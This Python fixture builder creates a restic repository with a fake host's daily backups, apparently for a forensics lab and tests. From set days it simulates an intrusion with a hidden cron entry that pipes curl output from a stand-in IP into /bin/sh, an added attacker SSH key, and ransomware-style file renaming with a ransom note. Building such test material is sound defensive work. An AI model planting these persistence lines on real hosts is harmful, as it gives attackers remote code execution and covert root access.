"""Build a restic repository with a realistic history, for the lab, the tests and the bench.

A host's root tree is generated on the control node and backed up once a day with restic's
``--time``: data changes a little every day; from ``persistence_day`` a cron job and an
extra root key are there (the attacker's quiet foothold); from ``encryption_day`` the data
is encrypted and ransom notes lie next to it.
"""

from __future__ import annotations

import os
import subprocess
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path

PASSWD = (
    "root:x:0:0:root:/root:/bin/bash\n"
    "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
    "postgres:x:105:111:PostgreSQL administrator:/var/lib/postgresql:/bin/bash\n"
    "alice:x:1000:1000:Alice:/home/alice:/bin/bash\n"
)
ADMIN_KEY = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBHnwh4mMqbbQbgtZ2Vc6Hh7h6r8Vd4m0p5cKpuq0Zzz admin@chu\n"
)
ATTACKER_KEY = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFm1mT3t8sdkQvGkPmX3l3C0a9WmWkq1m4oHc3aPZ1xq ops\n"
)
ATTACKER_CRON = "*/10 * * * * root /usr/bin/curl -fsS http://203.0.113.7/u | /bin/sh\n"


@dataclass(frozen=True)
class History:
    days: int = 10
    persistence_day: int | None = None  # 1-based day from which the foothold is there
    encryption_day: int | None = None
    start: datetime = datetime(2026, 11, 10, 2, 0, 0)
    data_files: int = 20
    data_file_bytes: int = 4096
    tag: str = "host-fs"


def _write(path: Path, data: bytes | str, mode: int = 0o644) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    path.chmod(mode)


def base_tree(root: Path, history: History) -> None:
    """An ordinary Debian-like host: accounts, cron, units, keys, binaries, database files."""
    _write(root / "etc/passwd", PASSWD)
    _write(root / "etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n")
    _write(root / "etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system\n")
    _write(root / "etc/profile", 'PATH="/usr/local/bin:/usr/bin:/bin"\nexport PATH\n')
    _write(root / "etc/systemd/system/postgresql.service", "[Service]\nExecStart=/usr/bin/pg\n")
    wants = root / "etc/systemd/system/multi-user.target.wants"
    wants.mkdir(parents=True, exist_ok=True)
    (wants / "postgresql.service").symlink_to("/etc/systemd/system/postgresql.service")
    _write(root / "root/.ssh/authorized_keys", ADMIN_KEY, 0o600)
    _write(root / "home/alice/.ssh/authorized_keys", "", 0o600)
    for name in ("ls", "bash", "sshd", "pg"):
        _write(root / f"usr/bin/{name}", os.urandom(8192), 0o755)
    for i in range(history.data_files):
        _write(root / f"var/lib/postgresql/data/base/{i:04d}", os.urandom(history.data_file_bytes))


def change_day(root: Path, history: History, day: int) -> None:
    """What changes on ``day`` (2..days): a bit of data, and the attack when it is time."""
    data = root / "var/lib/postgresql/data/base"
    victim = data / f"{day % history.data_files:04d}"
    if victim.exists():
        _write(victim, os.urandom(history.data_file_bytes))
    if day == history.persistence_day:
        _write(root / "etc/cron.d/.sync", ATTACKER_CRON)
        with (root / "root/.ssh/authorized_keys").open("a") as keys:
            keys.write(ATTACKER_KEY)
    if day == history.encryption_day:
        for path in sorted(data.iterdir()):
            if path.suffix != ".lockbit":
                path.rename(path.with_name(path.name + ".lockbit"))
        _write(data / "Restore-My-Files.txt", "Your files are encrypted.\n")


def restic(repo: Path, password: str, *args: str, cwd: Path | None = None) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("RESTIC_")}
    env["RESTIC_PASSWORD"] = password
    subprocess.run(
        ["restic", "-r", str(repo), "--no-cache", "--quiet", *args],
        cwd=cwd,
        env=env,
        check=True,
        stdout=subprocess.DEVNULL,
    )


def backup(repo: Path, password: str, root: Path, when: datetime, tag: str) -> None:
    # run from the host's root, so that the snapshot lists /etc/passwd as the host does
    stamp = when.strftime("%Y-%m-%d %H:%M:%S")
    restic(repo, password, "backup", "--tag", tag, "--time", stamp, ".", cwd=root)


def build(workdir: Path, password: str, history: History) -> Path:
    """Create ``workdir/repo`` holding ``history``; returns the repository path."""
    repo, root = workdir / "repo", workdir / "host"
    restic(repo, password, "init")
    base_tree(root, history)
    for day in range(1, history.days + 1):
        if day > 1:
            change_day(root, history, day)
        if day == 1 and history.encryption_day == 1:
            change_day(root, history, 1)
        if day == 1 and history.persistence_day == 1:
            change_day(root, history, 1)
        backup(repo, password, root, history.start + timedelta(days=day - 1), history.tag)
    return repo
